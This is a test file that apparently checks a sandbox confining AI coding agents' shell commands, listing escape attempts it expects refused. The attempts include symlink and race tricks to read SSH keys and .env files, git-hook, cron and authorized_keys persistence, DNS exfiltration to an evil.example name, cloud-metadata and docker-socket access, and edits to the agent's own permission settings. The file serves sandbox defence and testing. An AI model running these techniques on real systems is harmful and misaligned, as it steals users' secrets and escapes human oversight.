import { describe, expect, it } from "vitest";
import { confined, type ConfinedCase, NAME_SERVER } from "./world.ts";

/**
 * Ways to leave the policy, from a command that has its ticket: nothing of it happens, and whoever wrote the line is told what was
 * refused and what to do instead.
 */
interface LeavingCase extends Omit<ConfinedCase, "command"> {
  readonly name: string;
  /** Lines of a script of the project, whose words no judge has seen. */
  readonly script: string;
  /** What `after` prints when nothing happened; by default nothing. */
  readonly looks?: string;
  /** What is said of it. `nothing`: the kernel or the program says it all. */
  readonly said: RegExp | "nothing";
}

const python = (text: string): string => `python3 - <<'END'\n${text}\nEND`;
const OUTSIDE =
  /refused: .*"\/srv\/(?:out|home)[^"]*": it lies outside the working folder and temporary folders \[run\.outside\]\. Way out: write below/;
const SECRET = /refused: .*\[protect\.secrets\]\. Way out: go on without it/;
const LATER = /refused: .*\[(?:danger\.persistence|protect\.git-config)\]\. Way out: leave it out/;
const NET = /refused: connect to "1\.1\.1\.1:\d+": .*Way out: go on without it, or ask the user to add the rule `Net\(1\.1\.1\.1:\d+\)`/;
const SETTINGS = /refused: .*\[floor\.\w+\]\. Way out: leave it as it is/;
const SOCKET = /refused: connect to the socket "[^"]*": .*Way out: go on without it/;
const LISTENER =
  /refused: connect to "(?:localhost|127\.0\.0\.1):\d+": .*\[loopback-address\]\. Way out: start that server by a command of this session/;
const LOOKUP = /refused: look up "[^"]*": .*\[unreachable-name\]\. Way out: go on without it, or ask the user to add the rule `Net\(/;

/** The person has said `assent auto on`. */
const AGREED = `mkdir -p /srv/state/assent; chmod 700 /srv/state /srv/state/assent; echo '{"when":"everywhere","modes":"2026-01-02T03:04:05.678Z"}' > /srv/state/assent/automation.json; chmod 600 /srv/state/assent/automation.json`;
const DIAL = "import socket; s = socket.socket(); s.settimeout(3)";
/** A server outside the run, which writes down whatever it is told. */
const SERVER = (bind: string): string =>
  `printf '%s' 'import socket,sys\ns=${bind}\ns.listen(5)\nopen("/srv/told/up","w").close()\nwhile True:\n c,_=s.accept(); open("/srv/told/got","ab").write(c.recv(100)+b"!")' > /srv/told/server.py; python3 /srv/told/server.py & until [ -e /srv/told/up ]; do sleep 0.02; done`;
const TCP = SERVER('socket.create_server((\\"127.0.0.1\\",7777))').replaceAll('\\"', '"');
const UNIX = SERVER("socket.socket(socket.AF_UNIX)\ns.bind(bytes.fromhex(sys.argv[1]))").replace(
  "server.py & until",
  "server.py $AT & until",
);
const GOT = "cat /srv/told/got 2>/dev/null";
const at = (path: string): string => Buffer.from(path, "latin1").toString("hex");
const VICTIM = "sleep 50 & echo $! > /srv/told/victim";
const LIVES = "kill -0 $(cat /srv/told/victim) && echo lives";

/** Where tmux looks for its server. */
const SERVES = "/tmp/tmux-$(id -u)";

const CASES: readonly LeavingCase[] = [
  // Its client runs what the server says.
  {
    name: "is the server of the next tmux outside",
    script: `mkdir -p -m 700 ${SERVES}; ${python('import os, socket\ns = socket.socket(socket.AF_UNIX)\ns.bind("/tmp/tmux-%d/default" % os.getuid())')}`,
    after: `ls ${SERVES} 2>/dev/null`,
    said: LATER,
  },
  {
    name: "moves a folder with a socket to where tmux looks",
    script: `mkdir -m 700 /tmp/other; ${python('import os, socket\ns = socket.socket(socket.AF_UNIX)\ns.bind("/tmp/other/default")\nos.rename("/tmp/other", "/tmp/tmux-%d" % os.getuid())')}`,
    after: `ls ${SERVES} 2>/dev/null`,
    said: LATER,
  },
  // Files outside.
  {
    name: "writes outside",
    script: "echo x > /srv/out/new; echo x > $O/f",
    after: "ls /srv/out; cat /srv/out/f",
    looks: "f\noutside\n",
    said: OUTSIDE,
  },
  { name: "deletes outside", script: "rm -f /srv/out/f; rmdir /srv/out", after: "cat /srv/out/f", looks: "outside\n", said: OUTSIDE },
  {
    name: "renames outside",
    script: "mv /srv/out/f here",
    after: "cat /srv/out/f",
    looks: "outside\n",
    said: /refused: rename "\/srv\/out\/f" to .*: it lies outside .*Way out: write below/,
  },
  {
    name: "moves out",
    script: "echo x > a; mv a /srv/out/",
    after: "ls /srv/out",
    looks: "f\n",
    said: /refused: rename "\/srv\/proj\/a" to "\/srv\/out\/a": it lies outside .*Way out: write below/,
  },
  { name: "another project", script: "echo x >> ~/other/f", after: "cat /srv/home/other/f", looks: "theirs\n", said: OUTSIDE },
  {
    name: "mode and times outside",
    script: "chmod 777 $O/f; touch -d 2001-01-01 $O/f",
    after: "stat -c '%a' /srv/out/f",
    looks: "644\n",
    said: OUTSIDE,
  },
  {
    name: "truncates outside",
    script: python("import os; os.truncate('/srv/out/f', 0)"),
    after: "cat /srv/out/f",
    looks: "outside\n",
    said: OUTSIDE,
  },
  { name: "through a link", script: "ln -s /srv/out/f q; echo x > q", after: "cat /srv/out/f", looks: "outside\n", said: OUTSIDE },
  { name: "through a link to a folder", script: "ln -s /srv/out d; echo x > d/new", after: "ls /srv/out", looks: "f\n", said: OUTSIDE },
  {
    name: "a hard link",
    script: "ln /srv/out/f q && echo x > q",
    after: "cat /srv/out/f",
    looks: "outside\n",
    said: /refused: write "\/srv\/proj\/q" to "\/srv\/out\/f": it lies outside .*Way out: write below/,
  },
  {
    name: "by a descriptor's name",
    script: "exec 5< $O/f; echo x > /proc/self/fd/5",
    after: "cat /srv/out/f",
    looks: "outside\n",
    said: OUTSIDE,
  },
  {
    name: "a link that races",
    script: python(
      "import os, threading\nopen('ok','w').close()\ndef flip():\n  for _ in range(3000):\n    try:\n      os.symlink('/srv/out/f','t'); os.rename('t','n'); os.symlink('ok','t'); os.rename('t','n')\n    except OSError: pass\nt = threading.Thread(target=flip); t.start()\nwhile t.is_alive():\n  try: open('n','w').write('x')\n  except OSError: pass",
    ),
    after: "cat /srv/out/f",
    looks: "outside\n",
    said: OUTSIDE,
  },
  {
    name: "a folder that races",
    script: python(
      "import os, threading\nos.mkdir('a'); open('a/f','w').close()\ndef flip():\n  for _ in range(2000):\n    try:\n      os.rename('a','b'); os.symlink('/srv/out','a'); os.unlink('a'); os.rename('b','a')\n    except OSError: pass\nt = threading.Thread(target=flip); t.start()\nwhile t.is_alive():\n  try: open('a/f','w').write('x')\n  except OSError: pass",
    ),
    after: "cat /srv/out/f",
    looks: "outside\n",
    said: OUTSIDE,
  },
  { name: "io_uring", script: python("import ctypes\nprint(ctypes.CDLL(None, use_errno=True).syscall(425, 4, 0))"), said: "nothing" },
  // Secrets.
  { name: "a key", script: "cat ~/.ssh/id_rsa", said: SECRET },
  { name: "the project's .env", script: "cat .env", said: SECRET },
  { name: "through a link", script: "ln -s ~/.ssh/id_rsa k; cat k", said: SECRET },
  // What is started bare opens files by names that nobody looks at again: git prints what it does not understand of `shallow`.
  ...[
    ["to it", "ln -s ~/.ssh/id_rsa k"],
    ["in a repository", "ln -s ~/.ssh/id_rsa .git/shallow"],
    ["to a folder that holds it", "ln -s ~/.ssh k"],
    ["to a folder above that", "ln -s ~ k"],
    ["over the root", "ln -s / k"],
    ["from whatever folder the reader is in", "ln -s /proc/self/cwd/../home/.ssh/id_rsa k"],
    ["upwards", "ln -s ../home/.ssh/id_rsa k"],
    ["upwards, from deeper than it is moved to", "mkdir -p d/e; ln -s ../home/.ssh/id_rsa d/e/k; mv d/e/k k"],
    ["upwards by a folder that is replaced", "mkdir -p a/b; ln -s a/b d; ln -s d/../../home/.ssh/id_rsa k; rm d; mkdir d"],
    ["in a folder that is moved up", "mkdir -p a/b/c; mkdir a/home; ln -s ../../home a/b/c/k; rmdir a/home; mv a/b/c c; mv c/k k"],
    ["by its .env", "ln -s .env k"],
    [
      "unpacked",
      python(
        "import os, tarfile\nt = tarfile.TarInfo('k'); t.type = tarfile.SYMTYPE; t.linkname = '/srv/home/.ssh/id_rsa'\nwith tarfile.open('a.tar', 'w') as f: f.addfile(t)\nos.system('tar xf a.tar')",
      ),
    ],
  ].map(([name = "", script = ""]): LeavingCase => ({
    name: `a link ${name}`,
    script,
    after: "find /srv/proj -type l -exec cat {}/id_rsa {}/.ssh/id_rsa {}/srv/home/.ssh/id_rsa {} \\; 2>/dev/null | grep -a SECRET; true",
    said: SECRET,
  })),
  // Claude Code writes the folder it is in there behind every command, also behind those that nobody confines.
  ...["~/.bashrc", "/srv/out/f", "/srv/home/other/f", "$PWD/.git/config"].map((to): LeavingCase => ({
    name: `a link to ${to} in the way of what the host writes`,
    script: `touch ~/.bashrc; ln -s ${to} /tmp/claude-ab12-cwd; mkdir d; ln -s ${to} d/claude-ab12-cwd; mv d/claude-ab12-cwd /tmp/`,
    after: "find /tmp -type l",
    said: /refused: (?:link|rename) .*claude-ab12-cwd": other programs write to names in this folder.*\[run\.link-in-the-way\]/,
  })),
  { name: "a hard link to a secret", script: "ln .env k && cat k", said: SECRET },
  { name: "a secret that is moved", script: "mv .env e; cat e", said: SECRET },
  { name: "a folder of secrets that is moved", script: "mv ~/.ssh s; cat s/id_rsa", said: /refused: .*Way out/ },
  { name: "a copy by another program", script: "cp .env e; tar cf - .env | cat", said: SECRET },
  {
    name: "by sendfile and mmap",
    script: python("import mmap, os\nf = os.open('.env', os.O_RDONLY)\nprint(mmap.mmap(f, 0, prot=1)[:])"),
    said: SECRET,
  },
  {
    name: "the state of Assent",
    script: "cat /srv/state/assent/runs/*/kept/* /srv/state/assent/runs/*/meta.json",
    said: /refused: .*"\/srv\/state\/assent\/runs[^"]*": .*\[floor\.runs\]\. Way out: go on without it/,
  },
  // What runs later.
  {
    name: "a hook of git",
    script: "echo 'touch /srv/out/x' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
    after: "ls .git/hooks/pre-commit 2>/dev/null",
    said: LATER,
  },
  {
    name: "git's configuration",
    script: "git config core.fsmonitor ./evil; git config alias.st '!evil'; git config core.hooksPath h",
    after: "grep -c -e evil -e hooksPath .git/config",
    looks: "0\n",
    said: /refused: .*Way out/,
  },
  {
    name: "git's configuration by hand",
    script: "printf '[core]\\n\\tpager = evil\\n' >> .git/config",
    after: "grep -c evil .git/config",
    looks: "0\n",
    said: LATER,
  },
  {
    name: "another repository inside",
    script: "git init -q sub; printf '[core]\\nfsmonitor=evil\\n' >> sub/.git/config",
    after: "grep -c evil sub/.git/config",
    looks: "0\n",
    said: LATER,
  },
  {
    name: "a start file of the shell",
    script: "echo evil >> ~/.bashrc; echo evil >> ~/.profile",
    after: "ls -A /srv/home | grep -c -e bashrc -e profile",
    looks: "0\n",
    said: LATER,
  },
  {
    name: "cron",
    script: "echo '* * * * * evil' > /srv/told/tab; crontab /srv/told/tab; echo evil > /etc/cron.d/evil",
    after: "ls /etc/cron.d/evil 2>/dev/null",
    said: /refused: .*Way out/,
  },
  {
    name: "a service of the user",
    script: "mkdir -p ~/.config/systemd/user; echo '[Service]' > ~/.config/systemd/user/evil.service",
    after: "ls /srv/home/.config 2>/dev/null",
    said: /refused: .*Way out/,
  },
  {
    name: "authorized keys",
    script: "echo ssh-rsa >> ~/.ssh/authorized_keys",
    after: "ls /srv/home/.ssh",
    looks: "id_rsa\n",
    said: /refused: .*Way out/,
  },
  // What decides about agents.
  {
    name: "the policy",
    script: "echo '{}' > ~/.agent-permissions.jsonc; rm -f ~/.agent-permissions.jsonc",
    after: "grep -c confine /srv/home/.agent-permissions.jsonc",
    looks: "1\n",
    said: SETTINGS,
  },
  {
    name: "a policy of the project",
    script: `echo '{"permissions":{"allow":["*"]}}' > .agent-permissions.jsonc`,
    after: "ls .agent-permissions.jsonc 2>/dev/null",
    said: SETTINGS,
  },
  {
    name: "settings of an agent",
    script: "mkdir -p ~/.claude .claude; echo '{}' > ~/.claude/settings.json; echo '{}' > .claude/settings.json",
    after: "ls /srv/home/.claude/settings.json .claude/settings.json 2>/dev/null",
    said: SETTINGS,
  },
  {
    name: "what a host runs before each command",
    script:
      "mkdir -p ~/.claude/shell-snapshots ~/.codex/shell_snapshots; echo evil > ~/.claude/shell-snapshots/a.sh; echo evil > ~/.codex/shell_snapshots/a.sh",
    after: "ls /srv/home/.claude/shell-snapshots/a.sh /srv/home/.codex/shell_snapshots/a.sh 2>/dev/null",
    said: SETTINGS,
  },
  {
    name: "a ticket",
    script: "mkdir -p $XDG_STATE_HOME/assent/tickets; echo '{}' > $XDG_STATE_HOME/assent/tickets/0123456789abcdef.json",
    after: "ls /srv/state/assent/tickets",
    said: SETTINGS,
  },
  {
    name: "what is left to the session",
    script: "rm -rf $XDG_STATE_HOME/assent; echo > $XDG_STATE_HOME/assent/left",
    after: "ls /srv/state/assent/runs | grep -c '^2'",
    looks: "1\n",
    said: SETTINGS,
  },
  {
    name: "Assent itself",
    script: "echo evil >> /srv/assent/dist/bin.cjs; mkdir -p ~/.local/share/assent",
    after: "ls /srv/home/.local 2>/dev/null; tail -c 5 /srv/assent/dist/bin.cjs | grep evil",
    said: SETTINGS,
  },
  // The network.
  { name: "a host", script: python(`${DIAL}; s.connect(('1.1.1.1', 80))`), said: NET },
  {
    name: "a host whose address is written otherwise",
    script: python(`${DIAL}; s = socket.socket(socket.AF_INET6); s.connect(('::ffff:1.1.1.1', 80))`),
    said: NET,
  },
  {
    name: "a host that does not wait for the answer",
    script: python(`${DIAL}; s.setblocking(False); print(s.connect_ex(('1.1.1.1', 443)))`),
    said: NET,
  },
  {
    name: "a datagram",
    script: python("import socket; print(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('1.1.1.1', 53)))"),
    said: /refused: .*1\.1\.1\.1.*Way out/,
  },
  { name: "a raw packet", script: python("import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"), said: "nothing" },
  {
    name: "metadata of the cloud",
    script: python(`${DIAL}; s.connect(('169.254.169.254', 80))`),
    said: /refused: connect to "169\.254\.169\.254:80": .*credentials.*Way out/,
  },
  {
    name: "a name that carries data",
    before: NAME_SERVER,
    script: python("import socket\ntry: socket.getaddrinfo('c2VjcmV0.evil.example', 80)\nexcept OSError as e: print(e)"),
    after: GOT,
    said: LOOKUP,
  },
  {
    name: "a name of an address that carries data",
    before: NAME_SERVER,
    script: python("import socket\ntry: print(socket.gethostbyaddr('2001:db8::5ec:7e7'))\nexcept OSError as e: print(e)"),
    after: GOT,
    said: LOOKUP,
  },
  {
    name: "a name server of its own choice",
    script: python(
      "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(b'x'*30, ('9.9.9.9', 53))",
    ),
    said: /refused: .*9\.9\.9\.9.*Way out/,
  },
  {
    name: "a server of somebody else here",
    before: TCP,
    script: python(`${DIAL}; s.connect(('127.0.0.1', 7777)); s.send(b'x')`),
    after: GOT,
    said: LISTENER,
  },
  {
    name: "a socket of somebody else",
    before: `AT=${at("/srv/tmp/s")}; ${UNIX}`,
    script: python("import socket; s = socket.socket(socket.AF_UNIX); s.connect('/srv/tmp/s'); s.send(b'x')"),
    after: GOT,
    said: SOCKET,
  },
  {
    name: "an abstract socket of somebody else",
    before: `AT=${at("\0evil")}; ${UNIX}`,
    script: python("import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0evil'); s.send(b'x')"),
    after: GOT,
    said: /refused: .*@evil.*\[abstract-socket\]\. Way out/,
  },
  {
    name: "docker",
    before: `mkdir -p /srv/tmp/run; AT=${at("/srv/tmp/run/docker.sock")}; ${UNIX}`,
    script: python("import socket; s = socket.socket(socket.AF_UNIX); s.connect('/srv/tmp/run/docker.sock'); s.send(b'x')"),
    after: GOT,
    said: /refused: .*docker\.sock": .*\[powerful-socket\]\. Way out/,
  },
  {
    name: "D-Bus",
    before: `mkdir -p /srv/tmp/1000; AT=${at("/srv/tmp/1000/bus")}; ${UNIX}`,
    env: { DBUS_SESSION_BUS_ADDRESS: "unix:path=/srv/tmp/1000/bus" },
    script: python("import socket; s = socket.socket(socket.AF_UNIX); s.connect('/srv/tmp/1000/bus'); s.send(b'x')"),
    after: GOT,
    said: /refused: .*bus": .*\[powerful-socket\]\. Way out/,
  },
  {
    name: "the ssh agent",
    before: `AT=${at("/srv/tmp/agent.7")}; ${UNIX}`,
    env: { SSH_AUTH_SOCK: "/srv/tmp/agent.7" },
    script: python("import os, socket; s = socket.socket(socket.AF_UNIX); s.connect(os.environ['SSH_AUTH_SOCK']); s.send(b'x')"),
    after: GOT,
    said: /refused: .*agent\.7": .*\[powerful-socket\]\. Way out/,
  },
  {
    name: "the desktop's clipboard",
    before: `mkdir -p /srv/tmp/.X11-unix; AT=${at("/srv/tmp/.X11-unix/X7")}; ${UNIX}`,
    script: python("import socket; s = socket.socket(socket.AF_UNIX); s.connect('/srv/tmp/.X11-unix/X7'); s.send(b'x')"),
    after: GOT,
    said: /refused: .*X7": .*\[powerful-socket\]\. Way out/,
  },
  {
    name: "a terminal multiplexer",
    before: `mkdir -p /srv/tmp/tmux-0; AT=${at("/srv/tmp/tmux-0/default")}; ${UNIX}`,
    script: python("import socket; s = socket.socket(socket.AF_UNIX); s.connect('/srv/tmp/tmux-0/default'); s.send(b'x')"),
    after: GOT,
    said: /refused: .*tmux.*\[powerful-socket\]\. Way out/,
  },
  {
    name: "a datagram to a socket of somebody else",
    before: `AT=${at("/srv/tmp/d")}; ${UNIX.replace("AF_UNIX)", "AF_UNIX,socket.SOCK_DGRAM)").replace("s.listen(5)", "pass").replace("c,_=s.accept(); ", "c=s; ")}`,
    script: python("import socket; socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', '/srv/tmp/d')"),
    after: GOT,
    said: "nothing",
  },
  // Processes.
  { name: "kills another", before: VICTIM, script: "kill -9 $(cat /srv/told/victim)", after: LIVES, looks: "lives\n", said: "nothing" },
  { name: "kills everybody", before: VICTIM, script: "kill -9 -1", after: LIVES, looks: "lives\n", said: "nothing" },
  {
    name: "traces another",
    before: VICTIM,
    script: python("import ctypes\nprint(ctypes.CDLL(None).ptrace(16, int(open('/srv/told/victim').read()), 0, 0))"),
    after: LIVES,
    looks: "lives\n",
    said: "nothing",
  },
  {
    name: "reads another's memory",
    before: VICTIM,
    script: "head -c 1 /proc/$(cat /srv/told/victim)/mem; cat /proc/$(cat /srv/told/victim)/environ",
    said: "nothing",
  },
  {
    name: "takes a descriptor of another",
    before: VICTIM,
    script: python(
      "import ctypes, os\nl = ctypes.CDLL(None)\np = int(open('/srv/told/victim').read())\nprint(l.syscall(438, os.pidfd_open(p), 0, 0) if hasattr(os, 'pidfd_open') else -1)",
    ),
    said: "nothing",
  },
  { name: "types into another terminal", script: python("import fcntl, termios\nfcntl.ioctl(0, termios.TIOCSTI, b'x')"), said: "nothing" },
  { name: "namespaces", script: "unshare -Ur true; unshare -m true", said: /started unshare, which makes a sandbox.*/ },
  { name: "mounts", script: "mount -t tmpfs none /srv/out; mount --bind . /srv/out", after: "ls /srv/out", looks: "f\n", said: "nothing" },
  { name: "another root", script: "chroot . true; chroot /", said: /started chroot, which makes a sandbox/ },
  {
    name: "set-user-id",
    script: "cp /bin/true t; chmod 4755 t",
    after: "[ -u t ] && echo set",
    said: /refused: change the permissions, owner or times of .*\[run\.lends-rights\]|^$/,
  },
  {
    name: "loads into the kernel",
    script: python("import ctypes\nl = ctypes.CDLL(None, use_errno=True)\nprint(l.syscall(321, 0, 0, 0), l.syscall(313, 0, b'', 0))"),
    said: "nothing",
  },
  {
    name: "shared memory of others",
    before: python("import ctypes\nl = ctypes.CDLL(None)\nopen('/srv/told/shm','w').write(str(l.shmget(4242, 4096, 0o1666)))"),
    script: python("import ctypes\nprint(ctypes.CDLL(None).shmget(4242, 4096, 0))"),
    said: "nothing",
  },
  {
    name: "what an allowed program is told to send",
    script: "git push https://1.1.1.1/x HEAD; git send-pack 1.1.1.1:x HEAD",
    said: /refused: run "\/usr\/bin\/git push [^"]*": .*remote-change.*Way out: ask the user to run: '\/usr\/bin\/git' 'push'/,
  },
  {
    name: "a publication under somebody's login",
    script: "npm publish --registry http://1.1.1.1; npm token create; cargo publish; twine upload x",
    said: /refused: run "npm publish[^"]*": .*Way out: ask the user to run: /,
  },
  {
    name: "words that git takes for a push, and Assent does not know",
    before: "git remote add origin https://github.com/me/x",
    script: "git send-pack ssh://1.1.1.1/x HEAD; git remote-https origin http://1.1.1.1/x < /dev/null",
    said: NET,
  },
  {
    name: "another folder, under full-auto",
    policy: { mode: "full-auto" },
    before: AGREED,
    script: "echo x > /srv/out/new; rm -rf ~/other; mv kept /srv/out/kept",
    after: "ls /srv/out; cat /srv/home/other/f; cat kept",
    looks: "f\ntheirs\none\n",
    said: OUTSIDE,
  },
  {
    name: "a host, under full-auto",
    policy: { mode: "full-auto" },
    before: AGREED,
    script: python(`${DIAL}; s.connect(('1.1.1.1', 80))`),
    said: NET,
  },
  {
    name: "a copy of an allowed program",
    script: "cp $(command -v git) ./git; ./git -c http.sslVerify=false ls-remote http://1.1.1.1/x",
    said: NET,
  },
];

describe("what a confined command may not do", { concurrent: true }, () => {
  it.each(CASES)("$name", async ({ script, looks = "", said, before = "", ...what }) => {
    const command = "bash ./s.sh";
    const prepared = `${before}\ncat > s.sh <<'SCRIPT'\n${script}\nSCRIPT\n`;
    const found = await confined({ ...what, before: prepared, command });
    expect(found.stdout + found.stderr + found.after).not.toMatch(/SECRETKEY|SECRETENV/);
    expect(found.after).toBe(looks);
    const told = found.said.join("\n");
    if (said === "nothing") expect(found.stdout + found.stderr).toMatch(/denied|not permitted|No such|-1|Errno|not implemented|^$/i);
    else expect(told).toMatch(said);
    expect(found.said.length).toBeLessThanOrEqual(10);
    for (const line of found.said) expect(line.length).toBeLessThanOrEqual(700);
  });
});
